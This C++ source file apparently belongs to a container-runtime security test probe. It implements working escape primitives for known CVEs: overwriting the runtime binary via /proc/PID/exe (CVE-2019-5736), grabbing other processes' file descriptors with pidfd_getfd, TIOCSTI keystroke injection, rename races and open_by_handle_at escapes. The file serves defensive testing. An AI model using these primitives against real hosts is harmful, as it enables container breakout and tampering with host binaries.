// SPDX-FileCopyrightText: The proa authors
// SPDX-License-Identifier: Apache-2.0
//
// The verbs of the probe that are no fair play: what a hostile process would try, in a container or
// beside it, wherever it shares a volume or a process tree.
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstddef>
#include <cstring>

#include "probe.hpp"

namespace probe {
namespace {

void ready(char const* verb) { print(object({{"verb", quoted(verb)}, {"ready", "true"}})); }

/// The process numbers in /proc.
Words processes() {
  Words pids;
  DIR* directory = opendir("/proc");
  if (directory == nullptr) return pids;
  while (dirent const* entry = readdir(directory)) {
    if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9') pids.emplace_back(entry->d_name);
  }
  closedir(directory);
  return pids;
}

// --- the runtime's program: CVE-2019-5736 -------------------------------------------------------

/// A descriptor of the program that some process here executes, if it is that very file.
int program_with(dev_t device, ino_t inode) {
  for (auto const& pid : processes()) {
    int const fd = open(("/proc/" + pid + "/exe").c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) continue;
    struct stat info {};
    if (fstat(fd, &info) == 0 && info.st_dev == device && info.st_ino == inode) return fd;
    close(fd);
  }
  return -1;
}

/// What the first process executes: only for process trees that are no host's.
int program_of_init() { return open("/proc/1/exe", O_RDONLY | O_CLOEXEC); }

/// steal [DEVICE INODE]: takes hold of that program, or of the first process's, while it is being
/// executed, waits until nobody executes it any more, and writes to it.
std::string steal(Words const& words) {
  ready("steal");
  int fd = -1;
  while (fd < 0) {
    fd = words.size() < 2 ? program_of_init()
                          : program_with(std::stoul(words[0]), std::stoul(words[1]));
  }
  print(object({{"verb", quoted("steal")}, {"held", "true"}}));
  std::string const link = "/proc/self/fd/" + number(fd);
  int writable = -1;
  do {
    writable = open(link.c_str(), O_WRONLY | O_CLOEXEC);
    if (writable < 0 && errno == ETXTBSY) poll(nullptr, 0, 1);
  } while (writable < 0 && errno == ETXTBSY);
  return outcome(writable >= 0 && pwrite(writable, "stolen", 6, 0) == 6);
}

// --- processes that join: CVE-2016-9962 ---------------------------------------------------------

/// A file by its link in /proc, which leads to no socket.
int file_of(std::string const& pid, int fd) {
  int const file = open(("/proc/" + pid + "/fd/" + number(fd)).c_str(), O_PATH | O_CLOEXEC);
  struct stat info {};
  if (file < 0 || (fstat(file, &info) == 0 && !S_ISSOCK(info.st_mode))) return file;
  close(file);
  return -1;
}

/// How many descriptors above the standard streams of a process can be had.  The name alone of one
/// that execve(2) is about to close shows to whoever may trace the program to come (Linux 6.1).
int descriptors_of(std::string const& pid) {
  int const process = static_cast<int>(syscall(SYS_pidfd_open, std::stoi(pid), 0));
  int had = 0;
  for (int fd = 3; fd < 12; ++fd) {
    int taken = file_of(pid, fd);
    if (taken < 0) taken = static_cast<int>(syscall(SYS_pidfd_getfd, process, fd, 0));
    if (taken < 0) continue;
    ++had;
    close(taken);
  }
  if (process >= 0) close(process);
  return had;
}

/// spy [LOOKS]: looks at every other process but the first, so many times or until it is told to
/// end with SIGTERM.  A program that is not the probe's own is the runtime's.
std::string spy(Words const& words) {
  long const most = words.empty() ? -1 : std::stol(words[0]);
  sigset_t end;
  sigemptyset(&end);
  sigaddset(&end, SIGTERM);
  sigprocmask(SIG_BLOCK, &end, nullptr);
  struct stat own {};
  if (stat("/proc/self/exe", &own) != 0) return outcome(false);
  ready("spy");
  long programs = 0, descriptors = 0, others = 0;
  std::string const self = number(getpid());
  timespec const now{};
  while (others != most && sigtimedwait(&end, nullptr, &now) < 0) {
    for (auto const& pid : processes()) {
      if (pid == self || pid == "1" || others == most) continue;
      ++others;
      struct stat info {};
      if (stat(("/proc/" + pid + "/exe").c_str(), &info) == 0 && info.st_ino != own.st_ino) {
        ++programs;
      }
      descriptors += descriptors_of(pid);
    }
  }
  return object({{"errno", "0"},
                 {"others", number(others)},
                 {"programs", number(programs)},
                 {"descriptors", number(descriptors)}});
}

// --- paths that change under the runtime's feet -------------------------------------------------

/// exchange A B: swaps two names as fast as it can, until it is killed.
std::string exchange(Words const& words) {
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  ready("exchange");
  for (;;) {
    if (renameat2(AT_FDCWD, words[0].c_str(), AT_FDCWD, words[1].c_str(), RENAME_EXCHANGE) != 0) {
      return outcome(false);
    }
  }
}

/// cwd: where the kernel says that this process is; "(unreachable)..." is outside of its root.
std::string working_directory(Words const&) {
  char path[4096] = "";
  long const size = syscall(SYS_getcwd, path, sizeof path);
  return object({{"errno", number(size < 0 ? errno : 0)}, {"path", quoted(path)}});
}

// --- terminals: CVE-2016-10124 ------------------------------------------------------------------

/// push: a character into the input of the terminal on standard input, as if it were typed.
std::string push(Words const&) {
  bool const pushed = ioctl(0, TIOCSTI, "x") == 0;
  std::string const failure = number(pushed ? 0 : errno);
  int const tty = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
  std::string const controlling = boolean(tty >= 0);
  if (tty >= 0) close(tty);
  return object({{"errno", failure}, {"controlling", controlling}});
}

/// on-terminal PROGRAM ARGUMENT...: runs it on a terminal of its own, as a user's shell would, and
/// says how many bytes somebody has typed for the user meanwhile.
std::string on_terminal(Words const& words) {
  int const master = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
  if (master < 0 || grantpt(master) != 0 || unlockpt(master) != 0) return outcome(false);
  int const slave = open(ptsname(master), O_RDWR | O_NOCTTY | O_CLOEXEC);
  termios raw{};
  tcgetattr(slave, &raw);
  raw.c_lflag &= ~static_cast<tcflag_t>(ICANON | ECHO);
  tcsetattr(slave, TCSANOW, &raw);
  pid_t const child = fork();
  if (child == 0) {
    setsid();
    ioctl(slave, TIOCSCTTY, 0);
    dup2(slave, 0);
    std::vector<char*> argv;
    for (auto const& word : words) argv.push_back(const_cast<char*>(word.c_str()));
    argv.push_back(nullptr);
    execv(argv[0], argv.data());
    _exit(96);
  }
  int status = -1, typed = 0;
  waitpid(child, &status, 0);
  ioctl(slave, FIONREAD, &typed);
  return object({{"errno", "0"}, {"status", number(status)}, {"typed", number(typed)}});
}

// --- ways out -----------------------------------------------------------------------------------

std::string change_root(Words const& words) { return outcome(chroot(words[0].c_str()) == 0); }

/// setns FILE
std::string join_namespace(Words const& words) {
  int const fd = open(words[0].c_str(), O_RDONLY | O_CLOEXEC);
  std::string const result = outcome(fd >= 0 && setns(fd, 0) == 0);
  if (fd >= 0) close(fd);
  return result;
}

/// handle FILE: open_by_handle_at(2), which knows no root directory.
std::string open_by_handle(Words const& words) {
  alignas(file_handle) char room[sizeof(file_handle) + MAX_HANDLE_SZ] = {};
  auto* const handle = reinterpret_cast<file_handle*>(room);
  handle->handle_bytes = MAX_HANDLE_SZ;
  int mount = 0;
  if (name_to_handle_at(AT_FDCWD, words[0].c_str(), handle, &mount, 0) != 0) {
    return outcome(false);
  }
  int const at = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  int const fd = open_by_handle_at(at, handle, O_RDONLY | O_CLOEXEC);
  std::string const result = outcome(fd >= 0);
  if (fd >= 0) close(fd);
  if (at >= 0) close(at);
  return result;
}

/// connect NAME: to an abstract socket.
std::string connect_abstract(Words const& words) {
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  std::size_t const length = std::min(words[0].size(), sizeof address.sun_path - 1);
  std::memcpy(address.sun_path + 1, words[0].data(), length);
  int const fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  auto const size = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + length);
  bool const worked = connect(fd, reinterpret_cast<sockaddr const*>(&address), size) == 0;
  std::string result = outcome(worked);
  close(fd);
  return result;
}

constexpr Verb verbs[] = {
    {"chroot", 1, change_root}, {"connect", 1, connect_abstract}, {"cwd", 0, working_directory},
    {"exchange", 2, exchange},  {"handle", 1, open_by_handle},    {"on-terminal", 1, on_terminal},
    {"push", 0, push},          {"setns", 1, join_namespace},     {"spy", 0, spy},
    {"steal", 0, steal},
};

}  // namespace

std::span<Verb const> attacks() { return verbs; }

}  // namespace probe
